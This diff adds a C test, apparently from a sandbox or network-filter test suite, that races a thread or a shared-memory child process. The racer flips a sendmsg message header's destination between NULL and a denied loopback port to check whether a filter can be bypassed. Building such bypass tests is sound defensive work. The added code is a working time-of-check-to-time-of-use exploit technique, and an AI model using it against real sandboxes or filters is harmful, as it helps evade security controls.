@@ -78,6 +78,38 @@ int attack_race_sockaddr(int argc, char **argv) {  // HOW: connect, sendto, send
     return verdict(leaked || answered(udp, 200));
 }
 
+// A message that names nobody goes on by itself; so here it names somebody a moment later.
+static struct msghdr *header;
+static void *flip_name(void *unused) {
+    void *volatile *name = &header->msg_name;
+    double since = now();
+    while (!stop && now() - since < 2 * SECONDS)
+        for (int i = 0; i < 100; i++) { *name = &place; *name = NULL; }
+    return unused;
+}
+static int flipping_process(void *unused) { flip_name(unused); _exit(0); }
+
+int attack_race_header(int argc, char **argv) {  // HOW: thread, process
+    ports(argc, argv);
+    static char stack[65536] __attribute__((aligned(16)));
+    bool is_thread = strcmp(argument(argc, argv, 3), "thread") == 0, leaked = false;
+    int udp = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+    struct iovec part = {"x", 1};
+    pthread_t thread;
+    pid_t child = 0;
+    place = loopback(denied_port);
+    header = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    *header = (struct msghdr){.msg_namelen = sizeof place, .msg_iov = &part, .msg_iovlen = 1};
+    if (is_thread) start(&thread, flip_name, NULL);
+    else if ((child = clone(flipping_process, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL)) < 0) die("clone");
+    double since = now();
+    for (int i = 0; !leaked && !overdue(i, since); i++) sendmsg(udp, header, MSG_NOSIGNAL), leaked = answered(udp, 0);
+    stop = true;
+    if (is_thread) pthread_join(thread, NULL);
+    else waitpid(child, NULL, 0);
+    return verdict(leaked || answered(udp, 200));
+}
+
 static int sockets[2], moving;
 static void *swap_socket(void *unused) {
     while (!stop) { dup2(sockets[0], moving); dup2(sockets[1], moving); }
